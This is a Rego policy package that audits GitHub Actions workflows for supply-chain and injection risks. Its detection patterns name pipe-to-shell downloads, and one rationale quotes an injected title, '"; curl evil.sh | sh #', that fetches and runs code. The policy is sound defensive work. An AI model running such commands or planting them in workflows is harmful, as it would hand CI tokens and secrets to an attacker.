# METADATA
# title: CI/CD
# description: |
#   GitHub Actions workflows (the YAML parsed to JSON). Input: {"documents": [<workflow>, ...]}; a document's
#   `name` (or input.context.files[i]) names it in results. Waivers: workflow-level env
#   POLICY_WAIVE_<ID with _> (e.g. POLICY_WAIVE_CICD_006: "reason=...; expires=YYYY-MM-DD"). Config
#   (data.config.cicd): fork_triggers (the triggers outsiders can start, for CICD-009).
package cicd

import data.lib

default config := {}

config := data.config.cicd

violations contains lib.report(f, w) if {
	some f in findings
	w := waiver(f)
	w.status != "valid"
}

waived contains lib.waived(f, w) if {
	some f in findings
	w := waiver(f)
	w.status == "valid"
}

waiver(f) := lib.check_waiver(input.documents[f.document].env[lib.env_waiver_key(f.id)]) if {
	input.documents[f.document].env[lib.env_waiver_key(f.id)]
} else := lib.no_waiver

workflows contains i if {
	some i, doc in input.documents
	is_object(doc.jobs)
}

workflow_name(i) := input.context.files[i] if {
	input.context.files[i]
} else := input.documents[i].name if {
	input.documents[i].name
} else := sprintf("workflow #%d", [i + 1])

finding(id, severity, i, job, field, msg) := {
	"id": id,
	"severity": severity,
	"msg": msg,
	"resource": resource(i, job),
	"field": field,
	"document": i,
}

resource(i, "") := workflow_name(i)

resource(i, job) := sprintf("%s job %s", [workflow_name(i), job]) if job != ""

steps contains {"doc": i, "job": job_id, "step": step, "field": sprintf("jobs.%s.steps[%d]", [job_id, k])} if {
	some i in workflows
	some job_id, job in input.documents[i].jobs
	some k, step in object.get(job, "steps", [])
}

triggers(doc) := {doc.on} if is_string(doc.on)

triggers(doc) := {t | some t in doc.on} if is_array(doc.on)

triggers(doc) := object.keys(doc.on) if is_object(doc.on)

# METADATA
# title: Actions pinned by commit SHA
# description: Every `uses:` names a full 40-character commit SHA (local ./ actions and docker:// images excepted).
# custom:
#   id: CICD-001
#   severity: deny
#   rationale: A tag or branch can be moved to malicious code after review (tj-actions/changed-files, 2025).
findings contains finding("CICD-001", "deny", s.doc, s.job, sprintf("%s.uses", [s.field]), msg) if {
	some s in steps
	not pinned(s.step.uses)
	msg := sprintf("step uses %q, which is not pinned: use the full commit SHA of the release, e.g. %s@<40-hex sha> # %s", [s.step.uses, split(s.step.uses, "@")[0], ref_of(s.step.uses)])
}

findings contains finding("CICD-001", "deny", i, job_id, sprintf("jobs.%s.uses", [job_id]), msg) if {
	some i in workflows
	some job_id, job in input.documents[i].jobs
	not pinned(job.uses)
	msg := sprintf("job calls reusable workflow %q, which is not pinned: use its full commit SHA after @", [job.uses])
}

pinned(uses) if startswith(uses, "./")

pinned(uses) if startswith(uses, "docker://")

pinned(uses) if regex.match(`@[0-9a-f]{40}$`, uses)

ref_of(uses) := split(uses, "@")[1] if contains(uses, "@") else := "no ref"

# METADATA
# title: No pipe-to-shell
# description: run steps must not pipe a download into a shell (curl ... | bash, wget -O- | sh, bash <(curl ...)).
# custom:
#   id: CICD-002
#   severity: deny
#   rationale: Whatever the server returns at that moment runs with the job's token and secrets.
findings contains finding("CICD-002", "deny", s.doc, s.job, sprintf("%s.run", [s.field]), msg) if {
	some s in steps
	is_string(s.step.run)
	pipes_to_shell(s.step.run)
	msg := "the step pipes a download into a shell: download the script, verify its checksum (sha256sum -c), then run it, or use a pinned action"
}

pipes_to_shell(run) if regex.match(`(curl|wget)\b[^\n|]*\|\s*(sudo\s+)?(-\S+\s+)*(ba|z|da|k)?sh\b`, run)

pipes_to_shell(run) if regex.match(`(ba|z)?sh\s+<\(\s*(curl|wget)\b`, run)

# Expressions or refs that name the pull request's (or the triggering run's) head: code a fork controls.
untrusted_ref := `github\.event\.pull_request\.(head|merge_commit_sha)|github\.head_ref|refs/pull/|github\.event\.workflow_run\.(head_(sha|branch|repository)|pull_requests)|github\.event\.number|github\.event\.issue\.number`

privileged_triggers := {"pull_request_target", "workflow_run"}

# METADATA
# title: Privileged triggers do not check out the pull request
# description: A workflow triggered by pull_request_target or workflow_run must not check out the pull request's head (actions/checkout ref or repository, gh pr checkout, git fetch of pull refs).
# custom:
#   id: CICD-003
#   severity: deny
#   rationale: pull_request_target and workflow_run run with secrets and a write token; building untrusted PR code there hands both to the PR author.
findings contains finding("CICD-003", "deny", s.doc, s.job, sprintf("%s.with.%s", [s.field, key]), msg) if {
	some s in steps
	trigger := privileged_trigger(s.doc)
	startswith(object.get(s.step, "uses", ""), "actions/checkout")
	some key in ["ref", "repository"]
	regex.match(untrusted_ref, sprintf("%v", [object.get(s.step, ["with", key], "")]))
	msg := sprintf("a %s workflow checks out the pull request's code: build PR code in a pull_request workflow (no secrets), and keep %s to labelling/commenting or to reading artifacts as data", [trigger, trigger])
}

findings contains finding("CICD-003", "deny", s.doc, s.job, sprintf("%s.run", [s.field]), msg) if {
	some s in steps
	trigger := privileged_trigger(s.doc)
	is_string(s.step.run)
	regex.match(`gh\s+pr\s+checkout|git\s+(fetch|pull)\b[^\n]*(pull/|refs/pull)|git\s+checkout\b[^\n]*\$\{\{[^}]*(head|pull_request)`, s.step.run)
	msg := sprintf("a %s workflow fetches the pull request's code in a run step: build PR code in a pull_request workflow (no secrets), and keep %s to labelling/commenting", [trigger, trigger])
}

privileged_trigger(i) := t if {
	some t in triggers(input.documents[i])
	t in privileged_triggers
}

# METADATA
# title: Top-level permissions
# description: The workflow sets a top-level `permissions` block (least privilege, e.g. contents read).
# custom:
#   id: CICD-004
#   severity: deny
#   rationale: Without it GITHUB_TOKEN gets the repository's default, often write to everything.
findings contains finding("CICD-004", "deny", i, "", "permissions", msg) if {
	some i in workflows
	not "permissions" in object.keys(input.documents[i])
	msg := "the workflow sets no top-level permissions: add `permissions: { contents: read }` and grant more per job only where needed"
}

# METADATA
# title: No write-all permissions
# description: Neither the workflow nor a job grants `permissions` write-all.
# custom:
#   id: CICD-005
#   severity: deny
#   rationale: write-all gives the token every scope, including workflows and packages.
findings contains finding("CICD-005", "deny", i, "", "permissions", msg) if {
	some i in workflows
	input.documents[i].permissions == "write-all"
	msg := "the workflow grants permissions: write-all: list only the scopes it needs, e.g. { contents: read, pull-requests: write }"
}

findings contains finding("CICD-005", "deny", i, job_id, sprintf("jobs.%s.permissions", [job_id]), msg) if {
	some i in workflows
	some job_id, job in input.documents[i].jobs
	job.permissions == "write-all"
	msg := "the job grants permissions: write-all: list only the scopes it needs, e.g. { contents: read, packages: write }"
}

# METADATA
# title: Job timeouts
# description: Every job (except reusable-workflow calls) sets timeout-minutes.
# custom:
#   id: CICD-006
#   severity: warn
#   rationale: The default timeout is 6 hours; a hung job burns runner minutes and blocks the queue.
findings contains finding("CICD-006", "warn", i, job_id, sprintf("jobs.%s.timeout-minutes", [job_id]), msg) if {
	some i in workflows
	some job_id, job in input.documents[i].jobs
	not job.uses
	not job["timeout-minutes"]
	msg := "the job has no timeout-minutes (default 360): set timeout-minutes to a little over its usual duration, e.g. 15"
}

# METADATA
# title: No secrets echoed
# description: run steps must not echo or print secrets (echo/printf/cat with ${{ secrets.* }}).
# custom:
#   id: CICD-007
#   severity: deny
#   rationale: Masking is best-effort; transformed or partial secrets end up readable in the logs.
findings contains finding("CICD-007", "deny", s.doc, s.job, sprintf("%s.run", [s.field]), msg) if {
	some s in steps
	is_string(s.step.run)
	regex.match(`(echo|printf|print)\b[^\n]*\$\{\{\s*secrets\.`, s.step.run)
	msg := "the step prints a secret: pass it through env: (e.g. env: { TOKEN: ${{ secrets.TOKEN }} }) to the command that needs it and never echo it"
}

# Fields of an event that whoever opens an issue, a pull request, a comment or a branch writes.
untrusted_expression := `\$\{\{[^}]*\b(github\.event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|pages(\.\*|\[[^\]]*\])\.page_name|(head_commit|commits(\.\*|\[[^\]]*\])|workflow_run\.head_commit)\.(message|author\.(email|name))|workflow_run\.(head_branch|display_title|pull_requests[^}]*\.head\.ref)|discussion\.(title|body))|github\.head_ref)\b`

# Script text a step runs: run, and actions/github-script's script.
scripts contains {"s": s, "text": s.step.run, "field": sprintf("%s.run", [s.field])} if {
	some s in steps
	is_string(s.step.run)
}

scripts contains {"s": s, "text": s.step["with"].script, "field": sprintf("%s.with.script", [s.field])} if {
	some s in steps
	startswith(object.get(s.step, "uses", ""), "actions/github-script")
	is_string(s.step["with"].script)
}

# METADATA
# title: No expression injection
# description: run steps and actions/github-script scripts must not expand user-controlled ${{ github.event.* }} fields (issue/PR titles and bodies, comments, branch names, commit messages) or github.head_ref.
# custom:
#   id: CICD-008
#   severity: deny
#   rationale: The expression is pasted into the script before it runs, so a title like `"; curl evil.sh | sh #` runs with the job's token and secrets.
findings contains finding("CICD-008", "deny", x.s.doc, x.s.job, x.field, msg) if {
	some x in scripts
	some expr in regex.find_n(untrusted_expression, x.text, -1)
	msg := sprintf("the step expands the user-controlled %s}} into its script: pass it through env: (e.g. env: { VALUE: %s}} }) and use \"$VALUE\" (process.env.VALUE in github-script)", [expr, expr])
}

# Triggers whose workflows anyone with a fork or an account can start.
default_fork_triggers := [
	"pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment",
	"issue_comment", "issues", "discussion", "discussion_comment",
]

fork_triggers := object.get(config, "fork_triggers", default_fork_triggers)

# runs-on as a set of labels: a label, a list of labels, or {group, labels}.
runner_labels(runs_on) := labels_of(runs_on) if not is_object(runs_on)

runner_labels(runs_on) := labels_of(object.get(runs_on, "labels", [])) if is_object(runs_on)

labels_of(x) := {x} if is_string(x)

labels_of(x) := {l | some l in x} if is_array(x)

# METADATA
# title: No self-hosted runners for fork triggers
# description: Jobs of workflows that forks or outside users can trigger (pull_request, pull_request_target, issue_comment, ...; data.config.cicd.fork_triggers) do not run on self-hosted runners.
# custom:
#   id: CICD-009
#   severity: deny
#   rationale: A fork's code or an outsider's input on a persistent self-hosted runner can plant a backdoor that later jobs, with their secrets, run on.
findings contains finding("CICD-009", "deny", i, job_id, sprintf("jobs.%s.runs-on", [job_id]), msg) if {
	some i in workflows
	some t in triggers(input.documents[i])
	t in fork_triggers
	some job_id, job in input.documents[i].jobs
	"self-hosted" in runner_labels(object.get(job, "runs-on", []))
	msg := sprintf("the job runs on a self-hosted runner for the %s trigger, which forks and outside users can start: run it on a GitHub-hosted runner (e.g. ubuntu-latest), or set fork_triggers to [] in the cicd settings if every repository is private", [t])
}

# Container images a workflow runs: job containers, service containers and docker:// steps.
images contains {"doc": i, "job": job_id, "image": image_of(job.container), "field": sprintf("jobs.%s.container", [job_id])} if {
	some i in workflows
	some job_id, job in input.documents[i].jobs
	image_of(job.container)
}

images contains {"doc": i, "job": job_id, "image": image_of(service), "field": sprintf("jobs.%s.services.%s", [job_id, name])} if {
	some i in workflows
	some job_id, job in input.documents[i].jobs
	some name, service in object.get(job, "services", {})
	image_of(service)
}

images contains {"doc": s.doc, "job": s.job, "image": trim_prefix(s.step.uses, "docker://"), "field": sprintf("%s.uses", [s.field])} if {
	some s in steps
	startswith(s.step.uses, "docker://")
}

image_of(c) := c if is_string(c)

image_of(c) := c.image if is_string(c.image)

# METADATA
# title: Containers pinned by digest
# description: Job containers, service containers and docker:// steps name their image by digest (image@sha256:...).
# custom:
#   id: CICD-010
#   severity: deny
#   rationale: A tag can be repushed; the job then runs whatever image the registry serves, with the job's token and secrets.
findings contains finding("CICD-010", "deny", x.doc, x.job, x.field, msg) if {
	some x in images
	not contains(x.image, "@sha256:")
	not contains(x.image, "${{")
	msg := sprintf("image %q is not pinned: use its digest, e.g. %s@sha256:<digest> (docker buildx imagetools inspect %s shows it)", [x.image, split(x.image, "@")[0], x.image])
}

# METADATA
# title: Checkout does not persist credentials
# description: actions/checkout steps set with.persist-credentials false.
# custom:
#   id: CICD-011
#   severity: deny
#   rationale: By default checkout writes the job's token into .git/config, where every later step, and any artifact of the workspace, can read it.
findings contains finding("CICD-011", "deny", s.doc, s.job, sprintf("%s.with.persist-credentials", [s.field]), msg) if {
	some s in steps
	startswith(object.get(s.step, "uses", ""), "actions/checkout")
	not object.get(s.step, ["with", "persist-credentials"], true) in {false, "false"}
	msg := "the checkout leaves the job's token in .git/config: set with: { persist-credentials: false } (a step that pushes passes the token to git explicitly)"
}
